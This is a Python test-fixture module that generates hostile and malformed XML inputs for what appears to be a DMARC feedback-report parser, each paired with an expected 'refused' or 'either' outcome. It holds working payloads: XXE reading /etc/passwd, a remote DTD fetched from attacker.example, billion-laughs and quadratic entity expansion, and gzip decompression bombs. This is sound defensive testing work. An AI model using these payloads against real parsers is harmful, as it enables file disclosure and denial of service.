"""XML that attacks the parser, and XML that is damaged."""

from .packing import gzip
from .single import document


def plain(**replacements):
    """The sample report, with the texts of some elements replaced by raw XML."""
    data = document()
    for name, content in replacements.items():
        data = with_element(data, name, content)
    return data


def with_element(data, name, content):
    """Replaces the text of the first element of a name."""
    begin = data.index(b"<%s>" % name.encode()) + len(name) + 2
    end = data.index(b"</%s>" % name.encode(), begin)
    raw = content if isinstance(content, bytes) else content.encode()
    return data[:begin] + raw + data[end:]


def _with_doctype(declarations, org_name):
    head, _, rest = plain(org_name=org_name).partition(b"\n")
    return head + b"\n<!DOCTYPE feedback [\n" + declarations.encode() + b"\n]>\n" + rest


def _xxe():
    return _with_doctype('<!ENTITY secret SYSTEM "file:///etc/passwd">', "&secret;")


def _xxe_parameter():
    return _with_doctype('<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">\n%remote;',
                         "bigmail.example")


def _billion_laughs():
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)]
    return _with_doctype("\n".join(lines), "&lol9;")


def _quadratic():
    return _with_doctype(f'<!ENTITY big "{"a" * 30000}">', "&big;" * 10000)


def _harmless_doctype():
    head, _, rest = document().partition(b"\n")
    return head + b'\n<!DOCTYPE feedback SYSTEM "feedback.dtd">\n' + rest


def _deep():
    return plain(extra_contact_info="<a>" * 12000 + "</a>" * 12000)


def _attributes():
    attributes = "".join(f' attribute{number}="{number}"' for number in range(4000))
    return document().replace(b"<record>", b"<record" + attributes.encode() + b">", 1)


def _unknown_elements():
    return document().replace(b"<record>", b"<surprise/>" * 8000 + b"<record>", 1)


def _endless_text():
    """50 MB of text in one element, in 50 kB."""
    return gzip(plain(extra_contact_info=b"a" * 50_000_000))


def _many_records():
    """One row again and again: 25,000 records in 70 kB."""
    data = document()
    begin, end = data.index(b"  <record>"), data.index(b"  <record>", data.index(b"</record>"))
    return gzip(data[:begin] + data[begin:end] * 25_000 + data[end:])


def _cut_in_record():
    data = document()
    return data[:data.rindex(b"<auth_results>") + 30]


def _cut_after_record():
    data = document()
    return data[:data.rindex(b"</record>") + len("</record>")]


FILES = {
    "xxe.xml": ("refused", _xxe),
    "xxe-parameter.xml": ("refused", _xxe_parameter),
    "billion-laughs.xml": ("refused", _billion_laughs),
    "quadratic-entities.xml": ("refused", _quadratic),
    "doctype.xml": ("refused", _harmless_doctype),
    "deep-nesting.xml": ("refused", _deep),
    "many-attributes.xml": ("either", _attributes),
    "unknown-elements.xml": ("either", _unknown_elements),
    "endless-text.xml.gz": ("either", _endless_text),
    "many-records.xml.gz": ("either", _many_records),
    "cut-in-record.xml": ("refused", _cut_in_record),
    "cut-after-record.xml": ("either", _cut_after_record),
    "html.xml": ("refused", lambda: b"<!DOCTYPE html>\n<html><body>Not found</body></html>\n"),
    "other-root.xml": ("refused", lambda: b'<?xml version="1.0"?>\n<invoice><total/></invoice>\n'),
    "nul-bytes.xml": ("either", lambda: plain(org_name=b"big\x00mail.example")),
    "not-utf8.xml": ("either", lambda: plain(org_name=b"Gr\xf6\xdfe \xff\xfe")),
    "zero-bytes.xml": ("refused", lambda: b""),
    "only-spaces.xml": ("refused", lambda: b" \r\n\t" * 500),
}
